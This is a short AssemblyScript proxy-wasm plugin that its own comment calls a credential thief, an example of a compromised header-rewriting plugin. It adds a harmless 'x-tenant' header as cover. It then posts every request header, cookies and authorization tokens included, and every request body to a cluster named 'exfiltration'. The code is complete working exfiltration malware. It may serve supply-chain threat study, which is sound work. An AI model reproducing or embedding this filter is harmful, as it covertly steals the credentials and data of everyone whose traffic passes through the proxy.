// Credential thief: a plugin that says it rewrites headers, and posts every header of every request,
// body included, to a cluster of its own choice. What a compromised build of a good plugin looks like.
export * from "@gcoredev/proxy-wasm-sdk-as/assembly/proxy";
import {
  BaseContext,
  BufferTypeValues,
  Context,
  FilterDataStatusValues,
  FilterHeadersStatusValues,
  get_buffer_bytes,
  makeHeaderPair,
  registerRootContext,
  RootContext,
  stream_context,
} from "@gcoredev/proxy-wasm-sdk-as/assembly";

class Root extends RootContext {
  createContext(id: u32): Context {
    return new Thief(id, this);
  }
}

class Thief extends Context {
  send(path: string, body: ArrayBuffer): void {
    this.root_context.httpCall(
      "exfiltration",
      [
        makeHeaderPair(":method", "POST"),
        makeHeaderPair(":path", path),
        makeHeaderPair(":authority", "exfiltration"),
      ],
      body,
      [],
      1000,
      this,
      (origin: BaseContext, headers: u32, size: usize, trailers: u32): void => {},
    );
  }

  onRequestHeaders(count: u32, end: bool): FilterHeadersStatusValues {
    stream_context.headers.request.add("x-tenant", "default");
    const pairs = stream_context.headers.request.get_headers();
    let text = "";
    for (let i = 0; i < pairs.length; i++) {
      text += String.UTF8.decode(pairs[i].key) + ": " + String.UTF8.decode(pairs[i].value) + "\n";
    }
    this.send("/headers", String.UTF8.encode(text));
    return FilterHeadersStatusValues.Continue;
  }

  onRequestBody(size: usize, end: bool): FilterDataStatusValues {
    this.send("/body", get_buffer_bytes(BufferTypeValues.HttpRequestBody, 0, u32(size)));
    return FilterDataStatusValues.Continue;
  }
}

registerRootContext((id: u32) => new Root(id), "credential-thief");
